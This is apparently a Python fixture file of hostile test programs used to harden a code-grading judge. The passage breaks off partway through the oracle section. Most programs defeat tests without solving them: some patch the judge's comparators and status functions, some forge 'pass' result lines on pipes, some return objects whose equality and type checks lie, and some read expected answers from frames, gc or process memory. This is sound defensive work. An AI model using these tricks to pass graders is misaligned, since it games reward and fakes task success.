"""Hostile programs for ``test_attacks.py``: wrong (or hostile) code paired with honest tests.

Each :class:`Attack` is a program and the tests a problem would carry; for the tests in ``attacked`` a correct judge
never answers ``pass``, whatever the program does. The classes follow issue 12:

- ``harness``: the program reaches the judge's own machinery (modules, frames, ``gc``, pipes) and bends it;
- ``lie``: the program returns objects whose methods lie about what they are;
- ``oracle``: the program reads the expected side of a test instead of computing it;
- ``state``: something one test or program leaves behind changes another's verdict;
- ``host``: the program reads or blocks what lies outside the sandbox, or outlasts its limits.

Programs hold ``{{NAME}}`` placeholders filled at run time (secret paths, a per-run token, socket names); see
``test_attacks.py``. They are written against the classes, not against one judge's names: where a program looks
for the judge's objects it searches by shape (a callable that reports, a string that looks like a nonce, a dict
holding the tests) as well as by today's names.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, replace

MODES = ("isolated", "fast")


@dataclass(frozen=True)
class Attack:
    """One hostile program and the tests it runs against.

    Args:
        name: identifier, used as the test id.
        klass: ``harness``, ``lie``, ``oracle``, ``state``, ``host`` or ``control`` (an honest program).
        program: Python source with ``{{NAME}}`` placeholders.
        tests: assert tests (an assert-style job), or ``()`` for a stdin/stdout job.
        inputs, outputs: the stdin/stdout cases of a stdio job.
        attacked: per mode, indices of the tests (or cases) a correct judge never passes; ``None`` means all.
        plant: a program run before the attack (once per worker, so whatever it leaves is on every worker).
        plant_tests: the tests ``plant`` runs against (its verdicts are not judged).
        batch: also run through the rewards and the metric. Off for attacks that only test containment (floods,
            sleepers, escapees): the sandbox run measures their time and traces, and a verdict is never at stake.
    """

    name: str
    klass: str
    program: str
    tests: tuple[str, ...] = ()
    inputs: tuple[str, ...] | None = None
    outputs: tuple[str, ...] | None = None
    attacked: dict[str, tuple[int, ...]] | None = None
    plant: str | None = None
    plant_tests: tuple[str, ...] = ("assert plant() == 1",)
    batch: bool = True
    notes: str = ""

    @property
    def kind(self) -> str:
        return "stdio" if self.inputs is not None else "assert"

    @property
    def size(self) -> int:
        return len(self.inputs) if self.inputs is not None else len(self.tests)

    def attacked_in(self, mode: str) -> tuple[int, ...]:
        if self.klass == "control":
            return ()
        if self.attacked is None:
            return tuple(range(self.size))
        return tuple(self.attacked.get(mode, ()))


def fill(text: str, ctx: dict[str, str]) -> str:
    for key, value in ctx.items():
        text = text.replace("{{" + key + "}}", value)
    assert "{{" not in text or "}}" not in text, f"unfilled placeholder in {text[:200]!r}"
    return text


def _p(source: str) -> str:
    return textwrap.dedent(source).lstrip("\n")


def _isolated_only(n: int) -> dict[str, tuple[int, ...]]:
    """Tests 1.. must not pass in isolated mode (each test starts fresh); fast mode shares a process by design."""
    return {"isolated": tuple(range(1, n)), "fast": ()}


# ------------------------------------------------------------------------------------------------------------------
# Shared snippets (pasted into programs: each program must stand alone).
# ------------------------------------------------------------------------------------------------------------------

_FRAMES = '''
import sys
def _all_frames():
    """Every frame up the stack, reached three ways: _getframe, a traceback, a generator's f_back."""
    frames = []
    fr = sys._getframe(0)
    while fr is not None:
        frames.append(fr)
        fr = fr.f_back
    try:
        raise RuntimeError
    except RuntimeError as err:
        tb_frame = err.__traceback__.tb_frame
    while tb_frame is not None:
        if tb_frame not in frames:
            frames.append(tb_frame)
        tb_frame = tb_frame.f_back
    def gen():
        yield sys._getframe(0).f_back
    up = next(gen())
    while up is not None:
        if up not in frames:
            frames.append(up)
        up = up.f_back
    return frames
'''

_PIPES = '''
import os, fcntl
def _writable_pipes():
    fds = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if not os.readlink("/proc/self/fd/%d" % fd).startswith("pipe:"):
                continue
            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY:
                fds.append(fd)
        except (OSError, ValueError):
            pass
    return fds
'''

_LIBC_IPC = '''
import ctypes, ctypes.util
_libc = ctypes.CDLL(ctypes.util.find_library("c") or None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
IPC_CREAT, IPC_NOWAIT, IPC_RMID = 0o1000, 0o4000, 0
class _Msg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 128)]
'''


# ------------------------------------------------------------------------------------------------------------------
# 1. The harness is reachable.
# ------------------------------------------------------------------------------------------------------------------

HARNESS = [
    Attack(
        "harness_patches_comparators_found_in_sys_modules",
        "harness",
        _p(r'''
        import re, sys, types
        _STD = set(getattr(sys, "stdlib_module_names", ())) | {"builtins", "sys"}
        _TRUE = re.compile(r"compar|judge|verdict|equal|check|match", re.I)
        _SAME = re.compile(r"strip|canonical|normal|decode|load_value", re.I)
        _FALSE = re.compile(r"opaque", re.I)
        def _patch():
            for name, mod in list(sys.modules.items()):
                if not isinstance(mod, types.ModuleType) or name.partition(".")[0] in _STD or name == "solution":
                    continue
                for key, value in list(vars(mod).items()):
                    if not isinstance(value, types.FunctionType):
                        continue
                    try:
                        if _FALSE.search(key):
                            setattr(mod, key, lambda *a, **k: False)
                        elif _TRUE.search(key):
                            setattr(mod, key, lambda *a, **k: True)
                        elif _SAME.search(key):
                            setattr(mod, key, lambda v=None, *a, **k: v)
                    except Exception:
                        pass
        _patch()
        def square(x):
            _patch()
            return 0
        '''),
        ("assert square(2) == 4 and square(3) == 9", "assert abs(square(1.5) - 2.25) < 1e-9",
         "assert square(4) in (16, 17)", "assert square(5) == 25"),
    ),
    Attack(
        "harness_turns_failures_into_passes_by_patching_its_status_functions",
        "harness",
        _p(r'''
        import re, sys, types
        _STD = set(getattr(sys, "stdlib_module_names", ())) | {"builtins", "sys"}
        def _patch():
            for name, mod in list(sys.modules.items()):
                if not isinstance(mod, types.ModuleType) or name.partition(".")[0] in _STD or name == "solution":
                    continue
                for key, value in list(vars(mod).items()):
                    if not isinstance(value, types.FunctionType):
                        continue
                    low = key.lower()
                    try:
                        if "status" in low or "exception" in low or "outcome" in low:
                            setattr(mod, key, lambda *a, **k: ("pass", ""))
                        elif "run" in low and ("test" in low or "one" in low or "case" in low):
                            setattr(mod, key, lambda *a, **k: ("pass", "", None))
                    except Exception:
                        pass
        _patch()
        def square(x):
            _patch()
            return -1
        '''),
        ("assert square(2) == 4", "assert square(3) == 9 and square(4) == 16", "r = square(5)\nassert r == 25"),
    ),
    Attack(
        "harness_reporter_found_in_frames_writes_pass_for_literal_tests",
        "harness",
        _FRAMES + _p(r'''
        import os
        def _forge():
            reporters, indices = [], []
            for fr in _all_frames():
                for key, value in list(fr.f_locals.items()):
                    if callable(getattr(value, "result", None)) and value is not None and not isinstance(value, type):
                        reporters.append(value)
                    if key in ("todo", "pending", "indices") and isinstance(value, list):
                        indices.extend(i for i in value if isinstance(i, int))
            if not indices:
                indices = list(range(16))
            for rep in reporters:
                for i in indices:
                    for call in (lambda: rep.result(i, "pass", "", None, 0.0), lambda: rep.done(i, 0, 0.0, None)):
                        try:
                            call()
                        except Exception:
                            pass
            if reporters:
                os._exit(0)
        _forge()
        def square(x):
            _forge()
            return 0
        '''),
        ("assert square(2) == 4", "assert square(3) == 9", "assert square(-4) == 16"),
    ),
    Attack(
        "harness_reporter_found_through_traceback_and_generator_frames_at_call_time",
        "harness",
        _FRAMES + _p(r'''
        import os
        def square(x):
            reporters, indices = [], set()
            for fr in _all_frames():
                for key, value in list(fr.f_locals.items()):
                    if not isinstance(value, type) and callable(getattr(value, "result", None)):
                        reporters.append(value)
                    if isinstance(value, list) and value and all(isinstance(i, int) for i in value):
                        indices.update(value)
                    if key in ("idx", "i", "index") and isinstance(value, int):
                        indices.add(value)
            for rep in reporters:
                for i in sorted(indices) or range(8):
                    for call in (lambda: rep.result(i, "pass", "", None, 0.0), lambda: rep.done(i, 0, 0.0, None),
                                 lambda: rep.send(b"X", b"pass", "")):
                        try:
                            call()
                        except Exception:
                            pass
            if reporters:
                os._exit(0)
            return 0
        '''),
        ("assert square(2) == 4", "assert square(3) == 9 and square(4) == 16",
         "assert abs(square(1.5) - 2.25) < 1e-9"),
    ),
    Attack(
        "harness_forges_result_lines_with_a_nonce_found_in_memory",
        "harness",
        _FRAMES + _PIPES + _p(r'''
        import gc, re
        _HEX = re.compile(r"^[0-9a-fA-F]{12,128}$")
        def _nonces():
            found = set()
            def take(v):
                if isinstance(v, bytes):
                    try:
                        v = v.decode("ascii")
                    except UnicodeDecodeError:
                        return
                if isinstance(v, str) and _HEX.match(v.strip()):
                    found.add(v.strip())
            for obj in gc.get_objects():
                try:
                    for ref in gc.get_referents(obj):
                        take(ref)
                except Exception:
                    pass
            for fr in _all_frames():
                for v in list(fr.f_locals.values()):
                    take(v)
            return found
        def _forge():
            lines = []
            for n in _nonces():
                lines.append("%s X pass =\n" % n)
                for i in range(8):
                    lines.append("%s R %d pass = - 0.0\n%s D %d 0 0.0 -\n" % (n, i, n, i))
                    lines.append('{"nonce": "%s", "index": %d, "status": "pass"}\n' % (n, i))
            data = "".join(lines).encode()
            for fd in _writable_pipes():
                try:
                    os.write(fd, data[:60000])
                except OSError:
                    pass
        def square(x):
            _forge()
            os._exit(0)
        '''),
        ("assert square(2) == 4", "assert square(3) == 9", "assert square(4) == 16 and square(5) == 25"),
    ),
    Attack(
        "harness_closure_cells_of_the_running_test_swapped_for_yes_men",
        "harness",
        _p(r'''
        import gc, sys, types
        def _yes(*a, **k):
            return True
        def square(x):
            getattr(gc, "unfreeze", lambda: None)()  # a frozen generation hides from get_referrers()
            mine = square.__code__.co_filename
            fr = sys._getframe(1)
            while fr is not None:
                if fr.f_code.co_filename != mine:
                    for ref in gc.get_referrers(fr.f_code):
                        if isinstance(ref, types.FunctionType) and ref.__closure__:
                            for cell in ref.__closure__:
                                try:
                                    if callable(cell.cell_contents) and not isinstance(cell.cell_contents, type):
                                        cell.cell_contents = _yes
                                except ValueError:
                                    pass
                fr = fr.f_back
            return 0
        '''),
        ("assert square(2) == 4 and square(3) == 9", "assert abs(square(1.5) - 2.25) < 1e-9",
         "x = square(4)\nassert x == 16"),
    ),
    Attack(
        "harness_builtins_of_the_test_patched_through_frames_and_gc",
        "harness",
        _p(r'''
        import gc, sys
        def _patch():
            targets = []
            fr = sys._getframe(0)
            while fr is not None:
                targets.append(fr.f_builtins)
                fr = fr.f_back
            for obj in gc.get_objects():
                if type(obj) is dict and "abs" in obj and "sorted" in obj and "len" in obj:
                    targets.append(obj)
            for d in targets:
                try:
                    d["abs"] = lambda v: 0
                    d["sorted"] = lambda *a, **k: [1, 2, 3]
                    d["len"] = lambda *a: 3
                    d["isinstance"] = lambda *a: True
                    d["round"] = lambda *a: 3.14
                except Exception:
                    pass
        def solve(x):
            _patch()
            return 0.0
        '''),
        ("x = solve(1.5)\nassert abs(x - 2.25) < 1e-9", "res = solve([3, 1, 2])\nassert sorted(res) == [1, 2, 3]",
         "out = solve('abc')\nassert len(out) == 3 and isinstance(out, str)", "assert sorted(solve([3, 1, 2])) == [1, 2, 3]",
         "r = solve(1.0)\nassert round(r, 2) == 3.14"),
        attacked={"isolated": (0, 1, 2, 4), "fast": (0, 1, 2, 3, 4)},
        notes="test 3 resolves sorted before solve runs, so only a patch left by an earlier test can reach it",
    ),
    Attack(
        "harness_module_copies_found_by_gc_patched",
        "harness",
        _p(r'''
        import gc, math, types
        def _patch():
            for obj in gc.get_objects():
                if isinstance(obj, types.ModuleType) and getattr(obj, "__name__", "") == "math":
                    obj.isclose = lambda *a, **k: True
                    obj.sqrt = lambda v: 3.0
                    obj.floor = lambda v: 7
        _patch()
        def root(x):
            _patch()
            return 0.0
        '''),
        ("y = root(2.0)\nassert math.isclose(y, 1.41421356, rel_tol=1e-6)",
         "import math\ny = root(9.0)\nassert math.isclose(y, 3.0)",
         "import math\nassert math.sqrt(root(81.0)) == 3.0",
         "from math import isclose\nassert isclose(root(16.0), 4.0)"),
    ),
    Attack(
        "harness_prepared_tests_in_memory_rewritten_to_return_their_expected_value",
        "harness",
        _p(r'''
        import gc
        def _rewrite():
            for obj in gc.get_objects():
                for attr in ("expected", "want", "answer", "target"):
                    try:
                        expected = getattr(obj, attr)
                    except Exception:
                        continue
                    if callable(expected):
                        continue
                    for code_attr in ("code", "probe", "expr"):
                        try:
                            if hasattr(obj, code_attr):
                                setattr(obj, code_attr, compile(repr(expected), "<x>", "eval"))
                        except Exception:
                            pass
        _rewrite()
        def square(x):
            _rewrite()
            return 0
        '''),
        ("assert square(2) == 4", "assert square(3) == 9", "assert square(12) == 144"),
    ),
    Attack(
        "harness_blind_forgery_on_every_inherited_fd",
        "harness",
        _p(r'''
        import os
        LINES = [b'0 ["R", 0, "pass", "", null, 0.0]\n', b"R 0 pass = - 0.0\n", b"X pass =\n",
                 b'{"statuses": ["pass", "pass"], "messages": ["", ""], "cpu": [0.0, 0.0]}\n', b"pass\npass\n"]
        def square(x):
            for fd in range(0, 256):
                for line in LINES:
                    try:
                        os.write(fd, line)
                    except OSError:
                        break
            print("pass")
            return 0
        '''),
        ("assert square(2) == 4", "assert square(3) == 9 and square(1) == 1"),
    ),
]


# ------------------------------------------------------------------------------------------------------------------
# 2. Objects that lie.
# ------------------------------------------------------------------------------------------------------------------

LIES = [
    Attack(
        "lie_object_equal_to_everything",
        "lie",
        _p(r'''
        class Yes:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = object.__hash__
        def double(x):
            return Yes()
        '''),
        ("assert double(1) == 2", "assert double(1) == 2 and double(2) == 4", "assert [double(1), double(2)] == [2, 4]",
         "r = double(3)\nassert r == 6", "assert not (double(3) != 6)", "assert double(5) in [10]"),
    ),
    Attack(
        "lie_metaclass_fakes_type_identity_and_flags",
        "lie",
        _p(r'''
        class Meta(type):
            def __eq__(cls, other): return True
            def __ne__(cls, other): return False
            def __hash__(cls): return hash(int)
            @property
            def __flags__(cls): return int.__flags__
            @property
            def __qualname__(cls): return "int"
        class Num(metaclass=Meta):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __iter__(self): return iter(())
            def __len__(self): return 0
        def double(x):
            return Num()
        '''),
        ("assert double(1) == 2 and double(2) == 4", "assert double(3) == 6", "r = double(4)\nassert r == 8",
         "assert double(5) in [10]", "assert type(double(6)) == int and double(6) == 12"),
    ),
    Attack(
        "lie_int_subclass_with_lying_comparisons",
        "lie",
        _p(r'''
        class Z(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            def __gt__(self, other): return True
            def __le__(self, other): return True
            def __ge__(self, other): return True
            __hash__ = int.__hash__
        def square(x):
            return Z(0)
        '''),
        ("assert square(2) == 4", "assert square(2) == 4 and square(3) == 9", "assert not square(3) != 9",
         "assert 8 < square(3) < 10", "r = square(5)\nassert r == 25"),
    ),
    Attack(
        "lie_difference_always_zero_defeats_tolerance_checks",
        "lie",
        _p(r'''
        import math
        class Near:
            def __sub__(self, other): return 0.0
            def __rsub__(self, other): return 0.0
            def __abs__(self): return 0.0
            def __float__(self): return 0.0
        def square(x):
            return Near()
        '''),
        ("assert abs(square(1.5) - 2.25) < 1e-9", "assert abs(2.25 - square(1.5)) <= 1e-9",
         "assert square(2.0) - 4.0 == 0", "assert math.isclose(square(3.0) - 9.0, 0.0, abs_tol=1e-9)"),
    ),
    Attack(
        "lie_float_subclass_with_lying_arithmetic",
        "lie",
        _p(r'''
        class F(float):
            def __sub__(self, other): return F(0.0)
            def __rsub__(self, other): return F(0.0)
            def __abs__(self): return 0.0
            def __eq__(self, other): return True
            def __round__(self, nd=None): return self
            __hash__ = float.__hash__
        def square(x):
            return F(-1.0)
        '''),
        ("assert abs(square(1.5) - 2.25) < 1e-9", "assert abs(2.25 - square(1.5)) <= 1e-9",
         "assert round(square(1.1), 2) == 1.21", "r = square(3.0)\nassert abs(r - 9.0) < 1e-6"),
    ),
    Attack(
        "lie_ordering_methods_pass_range_and_chained_checks",
        "lie",
        _p(r'''
        class Anywhere:
            def __lt__(self, other): return True
            def __gt__(self, other): return True
            def __le__(self, other): return True
            def __ge__(self, other): return True
        def prob(x):
            return Anywhere()
        '''),
        ("assert 0 < prob(5) < 1", "assert 0.25 <= prob(3) <= 0.25", "assert prob(5) > 100 and prob(5) < 0",
         "r = prob(2)\nassert 0.5 <= r <= 0.5"),
    ),
    Attack(
        "lie_sequence_subclasses_claim_a_length_they_do_not_have",
        "lie",
        _p(r'''
        class T(tuple):
            def __new__(cls, n):
                obj = super().__new__(cls, ())
                obj.n = n
                return obj
            def __len__(self): return self.n
        class L(list):
            def __len__(self): return 3
        def dedupe(xs):
            return T(len(set(xs)))
        def triple(xs):
            return L()
        '''),
        ("assert len(dedupe([1, 1, 2])) == 2", "assert len(dedupe('abcab')) == 3 and len(triple([])) == 3",
         "r = dedupe([5, 5, 6])\nassert len(r) == 2", "assert len(triple([4])) == 3"),
    ),
    Attack(
        "lie_bool_reads_the_callers_next_bytecode",
        "lie",
        _p(r'''
        import dis, sys
        class Truth:
            def __bool__(self):
                fr = sys._getframe(1)
                for ins in dis.get_instructions(fr.f_code):
                    if ins.offset >= fr.f_lasti and "JUMP" in ins.opname and "IF" in ins.opname:
                        return "IF_TRUE" in ins.opname or "IF_NOT_NONE" in ins.opname
                return True
        def is_even(n):
            return Truth()
        '''),
        ("assert is_even(4)", "assert not is_even(5)", "assert is_even(8) and not is_even(9)"),
    ),
    Attack(
        "lie_hash_and_eq_games_in_sets_and_dicts",
        "lie",
        _p(r'''
        class Key:
            def __init__(self, h): self.h = h
            def __hash__(self): return self.h
            def __eq__(self, other): return True
            def __ne__(self, other): return False
        def double(x):
            return Key(hash(x * 2))
        def pairs(x):
            return {Key(hash(x)): Key(0)}
        '''),
        ("assert double(2) in {4, 5}", "assert {double(3)} == {6}", "assert {double(1): 'a'} == {2: 'a'}",
         "assert pairs(7) == {7: 14}", "assert double(4) in [8]"),
    ),
    Attack(
        "lie_str_subclass_with_lying_methods",
        "lie",
        _p(r'''
        class Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = object.__hash__
        class S(str):
            def startswith(self, *a): return True
            def endswith(self, *a): return True
            def __contains__(self, item): return True
            def lower(self): return Anything()
            def upper(self): return Anything()
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __len__(self): return 3
            __hash__ = str.__hash__
        def rev(s):
            return S("")
        '''),
        ("assert rev('abc').startswith('cb')", "assert 'z' in rev('xyz')", "assert rev('ABC').lower() == 'cba'",
         "assert rev('abc').endswith('a') and rev('abc') == 'cba'", "assert len(rev('abc')) == 3",
         "assert rev('abc') == 'cba'"),
    ),
    Attack(
        "lie_numeric_protocol_methods_round_abs_return_yes_men",
        "lie",
        _p(r'''
        class Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __hash__ = object.__hash__
        class N:
            def __round__(self, nd=None): return Anything()
            def __abs__(self): return Anything()
            def __neg__(self): return Anything()
            def __index__(self): return 0
        def f(x):
            return N()
        '''),
        ("assert round(f(2.567), 2) == 2.57", "assert abs(f(-3)) == 3", "assert -f(4) == -4",
         "assert round(f(0.5)) == 0 and abs(f(-1)) == 1", "assert abs(f(1.0) - 1.0) < 1e-9"),
    ),
    Attack(
        "lie_both_sides_of_the_comparison_are_program_objects",
        "lie",
        _p(r'''
        class ListNode:
            def __init__(self, val=0, next=None):
                self.val, self.next = val, next
            def __eq__(self, other): return True
            __hash__ = object.__hash__
        class Point:
            def __init__(self, x, y): self.x, self.y = x, y
            def __eq__(self, other): return True
            __hash__ = object.__hash__
        class Solution:
            def reverseList(self, head):
                return ListNode(0)
        def midpoint(a, b):
            return Point(0, 0)
        '''),
        ("assert Solution().reverseList(ListNode(1, ListNode(2))) == ListNode(2, ListNode(1))",
         "assert midpoint(Point(0, 0), Point(2, 2)) == Point(1, 1)",
         "node = Solution().reverseList(ListNode(1, ListNode(3)))\nassert node == ListNode(3, ListNode(1))"),
    ),
    Attack(
        "lie_program_classes_that_drop_their_arguments_build_both_sides",
        "lie",
        _p(r'''
        class ListNode:
            def __init__(self, val=0, next=None):
                self.val, self.next = 0, None  # drops its arguments: every list looks alike
        class TreeNode:
            def __init__(self, val=0, left=None, right=None):
                self.val, self.left, self.right = 0, None, None
        class Solution:
            def reverseList(self, head):
                return ListNode()
            def mergeTrees(self, a, b):
                return TreeNode()
        '''),
        ("assert Solution().reverseList(ListNode(1, ListNode(2))) == ListNode(2, ListNode(1))",
         "node = Solution().reverseList(ListNode(1, ListNode(3)))\nassert node == ListNode(3, ListNode(1))",
         "assert Solution().mergeTrees(TreeNode(1), TreeNode(2)) == TreeNode(3)"),
        notes="the expected side is built by the program's own class, so it can make every value look alike",
    ),
    Attack(
        "lie_identity_lost_between_values_passes_a_copy_that_is_not_one",
        "lie",
        _p(r'''
        class Node:
            def __init__(self, val, next=None):
                self.val, self.next = val, next
        def copy_list(head):
            return head  # the spec asks for a new list
        def clone(xs):
            return xs  # the spec asks for a copy
        '''),
        ("head = Node(1, Node(2))\ncopy = copy_list(head)\nassert copy is not head and copy.val == 1 and copy.next.val == 2",
         "head = Node(1)\nassert copy_list(head) is not head", "xs = [1, 2]\nys = clone(xs)\nassert ys is not xs and ys == xs",
         "xs = [[1], [2]]\nys = clone(xs)\nassert ys[0] is not xs[0]"),
        notes="object identity between what the test built and what the program returned must survive the wire",
    ),
    Attack(
        "lie_shared_reference_dag_of_two_to_the_64_nodes",
        "lie",
        _p(r'''
        def dag():
            node = [0]
            for _ in range(64):
                node = [node, node]
            return node
        class Bomb:
            def __reduce__(self):
                return (list, (dag(),))
            def __reduce_ex__(self, protocol):
                return (pow, (10, 10 ** 9))
        def f():
            return dag()
        def g():
            return Bomb()
        def h():
            return {"k": dag(), "t": (dag(), dag())}
        '''),
        ("assert f() == [[0]]", "assert h() == {'k': 1}", "assert len(f()) == 2 and f()[0] == 1"),
    ),
    Attack(
        "lie_huge_return_values",
        "lie",
        _p(r'''
        def big_str():
            return "x" * (150 * 1024 * 1024)
        def big_list():
            return list(range(3_000_000))
        def big_int():
            return 7 ** 3_000_000
        '''),
        ("assert big_str() == 'x'", "assert big_list() == [0]", "assert big_int() == 7"),
        batch=False,
    ),
    Attack(
        "lie_deeply_nested_and_cyclic_values",
        "lie",
        _p(r'''
        def deep_list():
            v = []
            for _ in range(100_000):
                v = [v]
            return v
        def deep_dict():
            v = {}
            for _ in range(100_000):
                v = {"a": v}
            return v
        def cyclic():
            a = []
            a.append(a)
            d = {}
            d["self"] = d
            return [a, d]
        '''),
        ("assert deep_list() == [[[]]]", "assert deep_dict() == {'a': {}}", "assert cyclic() == [[[]], {}]"),
        batch=False,
    ),
    Attack(
        "lie_lone_surrogates_in_values_and_messages",
        "lie",
        _p(r'''
        def name(x):
            return "\ud800" + x
        def boom(x):
            raise ValueError("bad \udcff value " + "\udfff" * 50)
        def keys(x):
            return {"\udfff": x, "k\ud834": ["\udc00"]}
        '''),
        ("assert name('a') == 'a'", "assert boom('a') == 'a'", "assert keys(1) == {'a': 1}",
         "assert name('b') == 'b' and True"),
    ),
    Attack(
        "lie_list_subclass_iterates_over_data_it_does_not_hold",
        "lie",
        _p(r'''
        class L(list):
            def __init__(self, shown):
                super().__init__()
                self.shown = shown
            def __iter__(self): return iter(self.shown)
            def __getitem__(self, i): return self.shown[i]
            def __len__(self): return len(self.shown)
            def __eq__(self, other): return True
            __hash__ = None
        def sort_list(xs):
            return L([1, 2, 3])
        '''),
        ("assert sorted(sort_list([3, 1, 2])) == [1, 2, 3]", "assert list(sort_list([2, 1, 3])) == [1, 2, 3]",
         "assert sum(sort_list([1, 2, 3])) == 6", "assert sort_list([3, 2, 1])[0] == 1",
         "assert sort_list([9, 8, 7]) == [7, 8, 9]"),
        notes="the list really holds nothing; only its overridden methods speak of [1, 2, 3]",
    ),
    Attack(
        "lie_class_attribute_fakes_isinstance",
        "lie",
        _p(r'''
        class Yes:
            def __eq__(self, other): return True
            __hash__ = object.__hash__
        class Fake:
            @property
            def __class__(self): return int
            def __add__(self, other): return Yes()
            __radd__ = __add__
            def __eq__(self, other): return True
            __hash__ = object.__hash__
        def count(x):
            return Fake()
        '''),
        ("assert isinstance(count(1), int)", "assert isinstance(count(2), int) and count(2) + 1 == 5",
         "r = count(3)\nassert isinstance(r, int) and r == 6"),
    ),
    Attack(
        "lie_exceptions_whose_text_loops_or_explodes",
        "lie",
        _p(r'''
        class Loop(Exception):
            def __str__(self):
                while True:
                    pass
        class Huge(AssertionError):
            def __str__(self):
                return "x" * (64 * 1024 * 1024)
        class Sneaky(Exception):
            def __str__(self):
                return "pass"
            __repr__ = __str__
        def f(x):
            raise Loop()
        def g(x):
            raise Huge()
        def h(x):
            raise Sneaky()
        '''),
        ("assert f(1) == 2", "assert g(1) == 2", "assert h(1) == 2"),
        batch=False,
    ),
]


# ------------------------------------------------------------------------------------------------------------------
# 3. Oracles: the expected side read instead of computed.
# ------------------------------------------------------------------------------------------------------------------

_TESTS_IN_MEMORY = r'''
import ast, gc
def _strings(limit=200000):
    seen = set()
    for obj in gc.get_objects():
        t = type(obj)
        if t is dict:
            values = list(obj.values()) + list(obj.keys())
        elif t in (list, tuple):
            values = obj
        else:
            try:
                values = gc.get_referents(obj)
            except Exception:
                continue
        for v in values:
            if type(v) is str and "assert" in v and len(v) < limit:
                seen.add(v)
            elif type(v) in (list, tuple):
                seen.update(s for s in v if type(s) is str and "assert" in s)
    return seen
def _expected(fname, arg):
    for src in _strings():
        try:
            tree = ast.parse(src)
        except (SyntaxError, ValueError):
            continue
        for node in ast.walk(tree):
            if isinstance(node, ast.Compare) and len(node.ops) == 1 and isinstance(node.ops[0], ast.Eq):
                for call, other in ((node.left, node.comparators[0]), (node.comparators[0], node.left)):
                    if (isinstance(call, ast.Call) and getattr(call.func, "id", None) == fname and call.args):
                        try:
                            if ast.literal_eval(call.args[0]) == arg:
                                return ast.literal_eval(other)
                        except Exception:
                            pass
    return None
'''

ORACLES = [
    Attack(
        "oracle_expected_value_read_from_the_callers_code_constants",
        "oracle",
        _p(r'''
        import sys
        def _consts(code, out):
            for c in code.co_consts:
                if hasattr(c, "co_consts"):
                    _consts(c, out)
                else:
                    out.append(c)
            return out
        def area(r):
            fr = sys._getframe(1)
            while fr is not None:
                floats = [c for c in _consts(fr.f_code, []) if type(c) is float and c > 1]
                if floats:
                    return max(floats)
                fr = fr.f_back
            return 0.0
        def fib_prefix(n):
            fr = sys._getframe(1)
            while fr is not None:
                for c in _consts(fr.f_code, []):
                    if type(c) is tuple and len(c) == n:
                        return list(c)
                fr = fr.f_back
            return []
        '''),
        ("assert abs(area(2.0) - 12.566370614359172) < 1e-6",
         "assert fib_prefix(3) == [1, 1, 2] and fib_prefix(4) == [1, 1, 2, 3]",
         "r = area(1.0)\nassert abs(r - 3.141592653589793) < 1e-9"),
    ),
    Attack(
        "oracle_expected_value_read_from_the_callers_locals",
        "oracle",
        _p(r'''
        import sys
        _NAMES = ("expected", "want", "answer", "ans", "target", "exp")
        def _peek(skip):
            fr = sys._getframe(2)
            while fr is not None:
                for name in _NAMES:
                    if name in fr.f_locals:
                        return fr.f_locals[name]
                fr = fr.f_back
            return skip
        def sort_desc(xs):
            return _peek(xs)
        def rev(s):
            return _peek(s)
        def mul(a, b):
            return _peek(0)
        '''),
        ("expected = [3, 2, 1]\nassert sort_desc([1, 2, 3]) == expected", "want = 'cba'\nassert rev('abc') == want",
         "expected = 42\nresult = mul(6, 7)\nassert result == expected"),
    ),
    Attack(
        "oracle_expected_value_read_from_code_objects_found_by_gc",
        "oracle",
        _p(r'''
        import gc, types
        def _all_consts():
            mine = fib.__code__.co_filename
            out = []
            def walk(code):
                for c in code.co_consts:
                    if isinstance(c, types.CodeType):
                        walk(c)
                    else:
                        out.append(c)
            for obj in gc.get_objects():
                if isinstance(obj, types.FunctionType) and obj.__code__.co_filename != mine:
                    walk(obj.__code__)
            return out
        def fib(n):
            consts = _all_consts()
            for i, c in enumerate(consts[:-1]):
                if type(c) is int and c == n and type(consts[i + 1]) is int:
                    return consts[i + 1]
            return -1
        '''),
        ("assert fib(10) == 55 and fib(12) == 144", "assert fib(15) == 610 and fib(16) == 987",
         "assert fib(20) == 6765"),
    ),
    Attack(
        "oracle_test_sources_found_in_memory_and_parsed",
        "oracle",
        _TESTS_IN_MEMORY + _p(r'''
        def double(x):
            return _expected("double", x)
        '''),
        ("assert double(3) == 6", "assert double(21) == 42", "assert double(-4) == -8",
         "assert double(5) == 10 and double(6) == 12"),
    ),
    Attack(
        "oracle_expected_attribute_of_judge_objects_found_by_gc",
        "oracle",
        _p(r'''
        import gc, types
        def _codes_of(obj):
            out = []
            try:
                refs = gc.get_referents(obj)
            except Exception:
                return out
            for r in refs:
                if isinstance(r, types.CodeType):
                    out.append(r)
                elif type(r) is dict:
                    out.extend(v for v in r.values() if isinstance(v, types.CodeType))
            return out
        def triple(x):
            for obj in gc.get_objects():
                for attr in ("expected", "want", "answer", "target"):
                    try:
                        value = getattr(obj, attr)
                    except Exception:
                        continue
                    for code in _codes_of(obj):
                        if x in code.co_consts:
                            return value
            return None
        '''),
        ("assert triple(3) == 9", "assert triple(5) == 15", "assert triple(11) == 33"),
    ),
    Attack(
        "oracle_own_process_memory_scanned_for_test_text",
        "oracle",
        _p(r'''
        import re
        _PAT = re.compile(rb"assert square\((-?\d+)\) == (-?\d+)")
        def _scan():
            table = {}
            with open("/proc/self/maps") as fh:
                regions = [line.split() for line in fh]
            with open("/proc/self/mem", "rb", buffering=0) as mem:
                for fields in regions:
                    if "rw" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                        continue
                    lo, hi = (int(v, 16) for v in fields[0].split("-"))
                    if hi - lo > 256 * 1024 * 1024:
                        continue
                    try:
                        mem.seek(lo)
                        data = mem.read(hi - lo)
